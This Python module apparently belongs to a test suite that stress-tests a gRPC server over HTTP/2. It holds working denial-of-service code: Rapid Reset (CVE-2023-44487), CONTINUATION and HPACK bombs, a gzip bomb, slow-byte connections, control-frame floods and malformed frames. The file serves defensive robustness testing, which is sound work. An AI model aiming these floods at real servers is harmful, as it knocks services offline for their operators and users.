"""The attacks: each a function of a target that sends something no client of ours would, bounded in count, bytes and time.

An attack returns a few words on how it went, for the table. It asserts nothing: what the server must withstand is said where the
attacks are run. Counts are for a test that anybody may run; `scale` multiplies those of the floods.
"""

import dataclasses
import gzip
import random
import struct
import time
from collections.abc import Callable

import h2

VERIFY = "/claviger.v1.Verifier/Verify"
HEALTH = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
GZIP = ("grpc-encoding", "gzip")
HANDSHAKE_SECONDS = 5  # --handshake-timeout, as it is unless told otherwise
SLOW_SECONDS = 8  # longer than that, so that what is slow has been seen to be cut off
BATCH = 100


def _flood(target, pieces, opening=b""):
    """Sends the opening and then all pieces, reading nothing meanwhile; says how it ended and what was answered last."""
    with h2.Connection(target) as connection:
        connection.send(opening)
        sent = 0
        for piece in pieces:
            if not connection.send(piece):
                break
            sent += len(piece)
        return f"{_ending(connection)} after {sent / 2**20:.1f} MiB"


def _ending(connection, seconds=0.5):
    """How the peer took it: in a word what it said, or else whether it closed."""
    ending = None
    for kind, _, _, payload in connection.read_frames(seconds):
        if kind == h2.GOAWAY:
            ending = f"GOAWAY {struct.unpack('>I', payload[4:8])[0]}"
        elif kind == h2.RST_STREAM and ending is None:
            ending = f"RST_STREAM {struct.unpack('>I', payload)[0]}"
    return ending or connection.outcome


def _count(outcomes):
    """`3 closed, 2 open` of many."""
    return ", ".join(f"{outcomes.count(kind)} {kind}" for kind in sorted(set(outcomes)))


def _each(target, openings, seconds=0.2):
    """One connection for each of the openings, one after the other; how they ended, counted."""
    outcomes = []
    for preface, sent in openings:
        with h2.Connection(target, preface) as connection:
            connection.send(sent)
            outcomes.append(_ending(connection, seconds))
    return _count(outcomes)


def _streams(count, first=1):
    return range(first, first + 2 * count, 2)


def _reset_flood(target, call, batches):
    """So many batches of calls that are reset at once, on each of three connections, one behind the other."""
    sent, endings = 0, []
    for _ in range(3):
        with h2.Connection(target) as connection:
            for batch in range(batches):
                streams = _streams(BATCH, 1 + 2 * BATCH * batch)
                if not connection.send(b"".join(call(stream) + h2.reset(stream) for stream in streams)):
                    break
                sent += BATCH
            endings.append(_ending(connection))
    return f"{_count(endings)} after {sent} streams"


def rapid_reset(target, scale):
    """Streams that are reset as soon as they are opened (CVE-2023-44487)."""
    block = h2.grpc_headers(VERIFY)
    return _reset_flood(target, lambda stream: h2.headers(stream, block), 500 * scale)


def reset_of_sent_calls(target, scale):
    """The same with whole requests: the handler has begun when the reset comes."""
    block, request = h2.grpc_headers(HEALTH), h2.message(b"")

    def call(stream):
        return h2.headers(stream, block) + h2.frame(h2.DATA, h2.END_STREAM, stream, request)

    return _reset_flood(target, call, 200 * scale)


def continuation_flood(target, scale):
    """A header block that does not end: full CONTINUATION frames without END_HEADERS."""
    fields = b"".join(h2.literal(f"x-{number}", "v" * 100) for number in range(140))
    piece = h2.frame(h2.CONTINUATION, stream=1, payload=fields)
    opening = h2.headers(1, h2.grpc_headers(VERIFY), flags=0)
    return _flood(target, (piece for _ in range(4096 * scale)), opening)


def empty_continuations(target, scale):
    """The same without content: only frames."""
    piece = h2.frame(h2.CONTINUATION, stream=1) * 1000
    return _flood(target, (piece for _ in range(100 * scale)), h2.headers(1, h2.grpc_headers(VERIFY), flags=0))


def many_fields(target, scale):
    """Calls with 100 KiB of metadata in a thousand fields, where 8 KiB are allowed."""
    block = h2.grpc_headers(VERIFY) + b"".join(h2.literal(f"x-{number}", "v" * 90) for number in range(1000))
    calls = (h2.header_frames(stream, block, flags=h2.END_STREAM) for stream in _streams(50 * scale))
    return _flood(target, calls)


def giant_field(target, scale):
    """A single field of 16 MiB."""
    del scale
    block = h2.grpc_headers(VERIFY) + h2.literal("x-giant", b"v" * (16 << 20))
    return _flood(target, [h2.header_frames(1, block, flags=h2.END_STREAM)])


def hpack_bomb(target, scale):
    """A field of 4,000 bytes, put into the table once and then meant by a byte, 16,000 times in each call."""
    first = h2.grpc_headers(VERIFY) + h2.literal("x-bomb", "v" * 4000, remembered=True)
    bomb = h2.grpc_headers(VERIFY) + h2.indexed(62) * 16000
    calls = (h2.header_frames(stream, bomb, flags=h2.END_STREAM) for stream in _streams(20 * scale, 3))
    return _flood(target, calls, h2.header_frames(1, first, flags=h2.END_STREAM))


def table_churn(target, scale):
    """Fields that each push the one before out of the table, and table sizes that go up and down."""
    churn = b"".join(h2.literal(f"x-{number}", "v" * 1000, remembered=True) for number in range(7))
    block = h2.hpack_integer(0, 5, 0x20) + h2.hpack_integer(4096, 5, 0x20) + h2.grpc_headers(VERIFY) + churn
    calls = (h2.header_frames(stream, block, flags=h2.END_STREAM) for stream in _streams(500 * scale))
    return _flood(target, calls)


def _client_hello(target):
    """The first half of what a TLS client begins with; for plaintext the first half of the preface."""
    if target.context is None:
        return h2.PREFACE[:12]
    return b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x5a" * 100


def half_open(target, scale):
    """Connections that begin their handshakes and say no more, 100 without a byte and 100 with half of the first message."""
    begun = _client_hello(target)
    connections = []
    try:
        for number in range(200 * scale):
            raw = target.open_tcp()
            connections.append(raw)
            if number % 2:
                raw.sendall(begun)
        outcomes = _closed_until(connections, time.monotonic() + SLOW_SECONDS)
    finally:
        for raw in connections:
            raw.close()
    return _count(outcomes)


def _closed_until(connections, deadline):
    """`closed` or `open` of each socket, at the latest at the deadline."""
    outcomes = []
    for raw in connections:
        outcome = None
        while outcome is None:
            raw.settimeout(max(0.001, deadline - time.monotonic()))
            try:
                if not raw.recv(1 << 14):
                    outcome = "closed"
            except TimeoutError:
                outcome = "open"
            except OSError:
                outcome = "closed"
        outcomes.append(outcome)
    return outcomes


def slow_bytes(target, scale):
    """A byte each second: in the preface, in a frame's header, in a header block, in a message; 20 connections of each kind."""
    call = h2.headers(1, h2.grpc_headers(VERIFY))
    starts = [
        (b"", h2.PREFACE),
        (h2.PREFACE + h2.settings(), call),
        (h2.PREFACE + h2.settings() + call[:20], call[20:]),
        (h2.PREFACE + h2.settings() + call, h2.frame(h2.DATA, 0, 1, h2.message(b"\x0a\x40" + b"k" * 64))),
    ]
    slow = []
    try:
        for at_once, drop_by_drop in starts * (20 * scale):
            connection = h2.Connection(target, at_once)
            slow.append((connection, drop_by_drop))
        for second in range(SLOW_SECONDS):
            for connection, drops in slow:
                connection.send(drops[second : second + 1])
            time.sleep(1)
        outcomes = []
        for connection, _ in slow:
            connection.read_frames(0.001)
            outcomes.append(connection.outcome)
    finally:
        for connection, _ in slow:
            connection.close()
    return _count(outcomes)


def garbage(target, scale):
    """Random bytes in the place of the preface, and behind it."""
    seeded = random.Random(7420)
    openings = []
    for number in range(50 * scale):
        preface = h2.PREFACE + h2.settings() if number % 2 else b""
        openings.append((preface, seeded.randbytes(seeded.randrange(1, 20000))))
    return _each(target, openings, 0.05)


def bad_frames():
    """Frames against the protocol, each with what is wrong with it."""
    call = h2.headers(1, h2.grpc_headers(VERIFY))
    whole_call = call + h2.frame(h2.DATA, h2.END_STREAM, 1, h2.message(b""))
    return {
        "SETTINGS of 5 bytes": h2.frame(h2.SETTINGS, payload=b"12345"),
        "SETTINGS on a stream": h2.frame(h2.SETTINGS, stream=1),
        "SETTINGS ACK with payload": h2.frame(h2.SETTINGS, h2.ACK, payload=b"123456"),
        "SETTINGS with a window over 2^31": h2.settings((h2.SETTINGS_INITIAL_WINDOW_SIZE, 0xFFFFFFFF)),
        "SETTINGS with frames of 0 bytes": h2.settings((5, 0)),
        "PING of 7 bytes": h2.frame(h2.PING, payload=b"1234567"),
        "PING on a stream": h2.frame(h2.PING, stream=1, payload=b"12345678"),
        "RST_STREAM on stream 0": h2.frame(h2.RST_STREAM, payload=b"\0\0\0\0"),
        "RST_STREAM of 3 bytes": call + h2.frame(h2.RST_STREAM, stream=1, payload=b"\0\0\0"),
        "RST_STREAM of an idle stream": h2.reset(99),
        "WINDOW_UPDATE of 0": h2.window_update(0, 0),
        "WINDOW_UPDATE beyond 2^31": h2.window_update(0, 0x7FFFFFFF) * 4,
        "WINDOW_UPDATE beyond 2^31 of a stream": call + h2.window_update(1, 0x7FFFFFFF) * 4,
        "WINDOW_UPDATE of 3 bytes": h2.frame(h2.WINDOW_UPDATE, payload=b"\0\0\1"),
        "DATA on stream 0": h2.frame(h2.DATA, payload=b"x"),
        "DATA on an idle stream": h2.frame(h2.DATA, stream=7, payload=b"x"),
        "DATA behind the end of a stream": whole_call + h2.frame(h2.DATA, 0, 1, b"x"),
        "DATA with more padding than payload": call + h2.frame(h2.DATA, h2.PADDED, 1, b"\xff12"),
        "DATA without its padding's length": call + h2.frame(h2.DATA, h2.PADDED, 1),
        "HEADERS on stream 0": h2.headers(0, h2.grpc_headers(VERIFY)),
        "HEADERS on an even stream": h2.headers(2, h2.grpc_headers(VERIFY)),
        "HEADERS on a lower stream": h2.headers(9, h2.grpc_headers(VERIFY)) + h2.headers(5, h2.grpc_headers(VERIFY)),
        "HEADERS with a stream that depends on itself": h2.frame(
            h2.HEADERS, 0x24, 1, struct.pack(">IB", 1, 9) + h2.grpc_headers(VERIFY)
        ),
        "HEADERS twice": call + call,
        "a frame between HEADERS and CONTINUATION": h2.headers(1, b"", flags=0) + h2.settings(),
        "CONTINUATION of another stream": h2.headers(1, b"", flags=0) + h2.frame(h2.CONTINUATION, 4, 3),
        "CONTINUATION without HEADERS": h2.frame(h2.CONTINUATION, h2.END_HEADERS, 1),
        "PRIORITY of 4 bytes": h2.frame(h2.PRIORITY, stream=1, payload=b"\0\0\0\0"),
        "PUSH_PROMISE from a client": h2.frame(h2.PUSH_PROMISE, h2.END_HEADERS, 1, b"\0\0\0\2"),
        "a frame of an unknown kind": h2.frame(0x7F, 0xFF, 1, b"x" * 100),
        "a frame of 16 MiB": h2.frame(h2.DATA, length=0xFFFFFF) + b"x" * 100000,
        "a frame of 16 MiB of an unknown kind": h2.frame(0x7F, length=0xFFFFFF) + b"x" * 100000,
        "GOAWAY of 3 bytes": h2.frame(h2.GOAWAY, payload=b"\0\0\0"),
        "GOAWAY, then a call": h2.goaway(text=b"x" * 10000) + whole_call,
        "an index that no table has": h2.headers(1, h2.indexed(200)),
        "index 0": h2.headers(1, h2.indexed(0)),
        "an integer without end": h2.headers(1, b"\xff" + b"\xff" * 50),
        "a string longer than the block": h2.headers(1, b"\x00\x05x"),
        "a table of 4 GiB": h2.headers(1, h2.hpack_integer(1 << 32, 5, 0x20)),
        "Huffman code of ones": h2.headers(1, b"\x00\x81\xff\x84\xff\xff\xff\xff"),
        "an upper-case field name": h2.headers(1, h2.grpc_headers(VERIFY, ("X-Upper", "1"))),
        "a field with a line end": h2.headers(1, h2.grpc_headers(VERIFY, ("x-line", "a\r\nb: c"))),
        "two paths": h2.headers(1, h2.grpc_headers(VERIFY, (":path", "/a/b"))),
        "a second preface": h2.PREFACE,
        "HTTP/1.1": b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
    }


def wrong_frames(target, scale):
    """Each frame of `bad_frames` on a connection of its own."""
    del scale
    openings = [(h2.PREFACE + h2.settings(), sent) for sent in bad_frames().values()]
    return _each(target, openings, 0.1)


def settings_flood(target, scale):
    """SETTINGS, which each want an answer, from a client that reads none."""
    piece = h2.settings((h2.SETTINGS_INITIAL_WINDOW_SIZE, 65535)) * 1000
    return _flood(target, (piece for _ in range(100 * scale)))


def ping_flood(target, scale):
    """The same with PING."""
    piece = h2.frame(h2.PING, payload=b"12345678") * 1000
    return _flood(target, (piece for _ in range(100 * scale)))


def window_update_flood(target, scale):
    """The smallest window updates, of the connection and of a stream."""
    piece = (h2.window_update(0, 1) + h2.window_update(1, 1)) * 500
    return _flood(target, (piece for _ in range(100 * scale)), h2.headers(1, h2.grpc_headers(VERIFY)))


def priority_flood(target, scale):
    """PRIORITY of streams that never come."""
    piece = b"".join(
        h2.frame(h2.PRIORITY, stream=stream, payload=struct.pack(">IB", 0, 9)) for stream in _streams(1000)
    )
    return _flood(target, (piece for _ in range(100 * scale)))


def empty_data(target, scale):
    """DATA without a byte, on a stream that stays open."""
    piece = h2.frame(h2.DATA, stream=1) * 1000
    return _flood(target, (piece for _ in range(100 * scale)), h2.headers(1, h2.grpc_headers(VERIFY)))


def tiny_data(target, scale):
    """A message in frames of one byte, as much as the windows let through."""
    piece = h2.frame(h2.DATA, stream=1, payload=b"x") * 1000
    opening = h2.headers(1, h2.grpc_headers(VERIFY)) + h2.frame(h2.DATA, 0, 1, h2.message(b"", length=1 << 19))
    return _flood(target, (piece for _ in range(100 * scale)), opening)


def zero_window(target, scale):
    """Connections that ask in full and leave no room for the answers, with as many streams as there may be."""
    block = h2.grpc_headers(HEALTH)
    calls = b"".join(
        h2.headers(stream, block) + h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message(b"")) for stream in _streams(100)
    )
    connections = []
    try:
        for _ in range(20 * scale):
            no_room = h2.PREFACE + h2.settings((h2.SETTINGS_INITIAL_WINDOW_SIZE, 0))
            connections.append(h2.Connection(target, no_room))
            connections[-1].send(calls)
        time.sleep(1)
        return _count([_ending(connection, 0.01) for connection in connections])
    finally:
        for connection in connections:
            connection.close()


def open_streams(target, scale):
    """Streams that begin and never go on: calls without a message, and watches of the health."""
    connections = []
    try:
        for number in range(20 * scale):
            block = h2.grpc_headers(WATCH if number % 2 else VERIFY)
            connections.append(h2.Connection(target))
            watch = h2.frame(h2.DATA, h2.END_STREAM, 0, h2.message(b""))
            for stream in _streams(150):  # 50 more than there may be
                connections[-1].send(h2.headers(stream, block))
                if number % 2:
                    connections[-1].send(watch[:5] + struct.pack(">I", stream) + watch[9:])
        time.sleep(1)
        return _count([_ending(connection, 0.01) for connection in connections])
    finally:
        for connection in connections:
            connection.close()


def lying_lengths(target, scale):
    """Messages that say they have 4 GiB, or more or less than comes."""
    lies = [
        h2.message(b"x" * 100, length=0xFFFFFFFF),
        h2.message(b"x" * 100, length=1 << 20),
        h2.message(b"x" * 100, length=1),
        h2.message(b"", length=1 << 31),
        b"\x00\x00",
        b"\x07" + h2.message(b"x")[1:],
    ]
    openings = []
    for number in range(60 * scale):
        call = h2.headers(1, h2.grpc_headers(VERIFY))
        data = h2.frame(h2.DATA, h2.END_STREAM * (number % 2), 1, lies[number % len(lies)])
        openings.append((h2.PREFACE + h2.settings(), call + data))
    return _each(target, openings, 0.05)


def bad_compression(target, scale):
    """Messages flagged as compressed: without an encoding, with an unknown one, and with garbage."""
    kinds = [((), b"x" * 100), ((("grpc-encoding", "snappy"),), b"x" * 100), ((GZIP,), b"x" * 100), ((GZIP,), b"")]
    openings = []
    for number in range(40 * scale):
        fields, body = kinds[number % len(kinds)]
        call = h2.headers(1, h2.grpc_headers(VERIFY, *fields))
        data = h2.frame(h2.DATA, h2.END_STREAM, 1, h2.message(body, compressed=1))
        openings.append((h2.PREFACE + h2.settings(), call + data))
    return _each(target, openings, 0.05)


def gzip_bomb(target, scale):
    """Messages within the limit that become 256 MiB each, four at once."""
    bomb = h2.message(gzip.compress(b"\0" * (256 << 20), 9), compressed=1)
    call = h2.grpc_headers(VERIFY, GZIP)
    frames = []
    for stream in _streams(4 * scale):
        frames.append(h2.headers(stream, call))
        for at in range(0, len(bomb), h2.MAX_FRAME):
            end = h2.END_STREAM if at + h2.MAX_FRAME >= len(bomb) else 0
            frames.append(h2.frame(h2.DATA, end, stream, bomb[at : at + h2.MAX_FRAME]))
    with h2.Connection(target) as connection:
        # Acknowledged, the server's SETTINGS open windows of some MiB.
        connection.read_frames(2, until=lambda frames: any(kind == h2.WINDOW_UPDATE for kind, *_ in frames))
        connection.send(h2.frame(h2.SETTINGS, h2.ACK))
        connection.send(b"".join(frames))
        return _ending(connection, 3)


def strange_calls(target, scale):
    """Calls that are none: unknown methods, no method, no path, no `te`, no content type, other content types."""
    blocks = [
        h2.grpc_headers("/claviger.v1.Verifier/Nothing"),
        h2.grpc_headers("/nothing"),
        h2.grpc_headers(""),
        h2.grpc_headers("/" + "x" * 7000),
        h2.grpc_headers(VERIFY, left_out=("te",)),
        h2.grpc_headers(VERIFY, left_out=("content-type",)),
        h2.grpc_headers(VERIFY, ("content-type", "text/html"), left_out=("content-type",)),
        h2.grpc_headers(VERIFY, left_out=(":path",)),
        h2.grpc_headers(VERIFY, left_out=(":method",)),
        h2.grpc_headers(VERIFY, left_out=(":scheme", ":authority")),
        h2.grpc_headers(VERIFY, (":method", "GET"), left_out=(":method",)),
        h2.grpc_headers(VERIFY, ("grpc-timeout", "99999999999999999999H")),
        h2.grpc_headers(VERIFY, ("grpc-timeout", "0n")),
        h2.grpc_headers(VERIFY, ("authorization", "Bearer " + "x" * 4000)),
        h2.grpc_headers(VERIFY, ("authorization", "Basic eDp4"), ("authorization", "Bearer x")),
        h2.grpc_headers(VERIFY, ("x-bin", "!!!not base64!!!")),
        b"",
    ]
    openings = []
    for _ in range(3 * scale):
        for block in blocks:
            data = h2.frame(h2.DATA, h2.END_STREAM, 1, h2.message(b"\x0a\x03abc"))
            openings.append((h2.PREFACE + h2.settings(), h2.headers(1, block) + data))
    return _each(target, openings, 0.05)


def many_connections(target, scale):
    """Connections that come and go, and some that stay."""
    kept = []
    try:
        for number in range(300 * scale):
            connection = h2.Connection(target)
            if number % 3:
                connection.close()
            else:
                kept.append(connection)
        return _count([_ending(connection, 0.01) for connection in kept])
    finally:
        for connection in kept:
            connection.close()


@dataclasses.dataclass(frozen=True)
class Attack:
    """One attack by its name in the table; `most_scale` bounds the larger counts. One that `grows` makes the server keep what it
    is sent for a while; all others must leave its memory nearly as it was."""

    name: str
    run: Callable[[h2.Target, int], str]
    most_scale: int = 1
    grows: bool = False

    @property
    def title(self):
        return self.run.__doc__.split("\n", maxsplit=1)[0]


ALL = (
    Attack("reset flood", rapid_reset, 4, grows=True),
    Attack("reset of whole calls", reset_of_sent_calls, 4, grows=True),
    Attack("CONTINUATION flood", continuation_flood, 16, grows=True),
    Attack("empty CONTINUATION flood", empty_continuations, 20),
    Attack("huge metadata, many fields", many_fields, 20, grows=True),
    Attack("huge metadata, one field", giant_field, grows=True),
    Attack("HPACK bomb", hpack_bomb, 20),
    Attack("HPACK table churn", table_churn, 20),
    Attack("half-open handshakes", half_open, 4),
    Attack("slow bytes", slow_bytes, 4),
    Attack("garbage", garbage, 10),
    Attack("wrong frames", wrong_frames),
    Attack("SETTINGS flood", settings_flood, 20),
    Attack("PING flood", ping_flood, 20, grows=True),
    Attack("WINDOW_UPDATE flood", window_update_flood, 20),
    Attack("PRIORITY flood", priority_flood, 20),
    Attack("empty DATA flood", empty_data, 20),
    Attack("DATA byte by byte", tiny_data, 20),
    Attack("readers without a window", zero_window, 10, grows=True),
    Attack("streams left open", open_streams, 10, grows=True),
    Attack("lying lengths", lying_lengths, 10),
    Attack("bad compression", bad_compression, 10),
    Attack("gzip bomb", gzip_bomb, 4),
    Attack("strange calls", strange_calls, 10),
    Attack("connections come and go", many_connections, 3),
)
